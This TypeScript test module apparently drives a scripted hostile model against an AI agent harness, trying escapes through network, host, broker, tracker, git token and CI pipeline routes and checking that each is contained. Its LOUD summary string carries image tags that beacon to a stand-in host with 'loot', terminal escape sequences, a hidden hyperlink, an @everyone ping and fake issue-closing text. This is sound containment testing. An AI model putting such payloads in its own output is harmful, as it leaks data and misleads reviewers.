import type { ModelScript } from "@windshift/testing/model-script.ts";
import type { Attempt, HostileRun } from "./attempt.ts";
import { BROKER_ATTEMPTS } from "./attempts-brokers.ts";
import { CHECKOUT_ATTEMPTS, PIPELINE_ATTEMPTS, TOKEN_ATTEMPTS } from "./attempts-git.ts";
import { HOST_ATTEMPTS } from "./attempts-host.ts";
import { NETWORK_ATTEMPTS } from "./attempts-network.ts";
import { TRACKER_ATTEMPTS } from "./attempts-tracker.ts";

const NO_CHANGES = { status: "succeeded", reason: "no_changes", pullRequest: false } as const;
const REJECTED = { status: "failed", reason: "push_rejected", pullRequest: false } as const;
/** What a model says last, for people and for the forge's page. */
const LOUD =
  "Done. ![x](http://203.0.113.5/?q=loot) <img src=http://203.0.113.5/> Closes #1, fixes EVIL-1. @everyone \u001b[2J\u001b]8;;http://203.0.113.5\u0007here";

/** Everything that is tried, a run for each place it is tried at. */
export const HOSTILE_RUNS: readonly HostileRun[] = [
  { name: "network", attempts: NETWORK_ATTEMPTS, summary: "Nothing.", ends: NO_CHANGES },
  { name: "host", attempts: HOST_ATTEMPTS, summary: "Nothing.", ends: NO_CHANGES },
  { name: "brokers", attempts: BROKER_ATTEMPTS, summary: "Nothing.", ends: NO_CHANGES },
  { name: "tracker", attempts: TRACKER_ATTEMPTS, summary: LOUD, ends: NO_CHANGES },
  {
    name: "checkout",
    attempts: CHECKOUT_ATTEMPTS,
    summary: LOUD,
    ends: { status: "succeeded", reason: "completed", pullRequest: true },
  },
  {
    name: "token",
    attempts: TOKEN_ATTEMPTS,
    summary: "Done.",
    ends: { ...REJECTED, detail: /notes\.txt/ },
  },
  {
    name: "pipeline",
    attempts: PIPELINE_ATTEMPTS,
    summary: "Done.",
    ends: { ...REJECTED, detail: /leak\.yml tells the CI what to run/ },
  },
];

/** Calls of one reply: a model may make several at once, but not dozens. */
const CALLS_MAX = 6;

/** What the model says in a run. The id of a call is that of the attempt, so that its answer is found again. */
export function scriptOf(run: HostileRun, values: Record<string, string>): ModelScript {
  const calls = run.attempts.map((attempt, at) => ({
    id: callId(run, at),
    name: attempt.tool,
    args: filled(attempt, values),
  }));
  const turns: ModelScript = [];
  for (let at = 0; at < calls.length; at += CALLS_MAX)
    turns.push({ tool_calls: calls.slice(at, at + CALLS_MAX) });
  const finish = { name: "finish", args: { outcome: "completed", summary: run.summary } };
  return [...turns, { tool_calls: [finish] }];
}

/** What names a run's call in records and in the scripted model, by its place from 0. */
export function callId(run: HostileRun, at: number): string {
  return `${run.name}-${at + 1}`;
}

function filled(attempt: Attempt, values: Record<string, string>): Record<string, string> {
  const fill = (text: string) =>
    text.replaceAll(/\{([a-z]\w+)\}/gi, (whole, name: string) => values[name] ?? whole);
  return Object.fromEntries(Object.entries(attempt.args).map(([name, text]) => [name, fill(text)]));
}
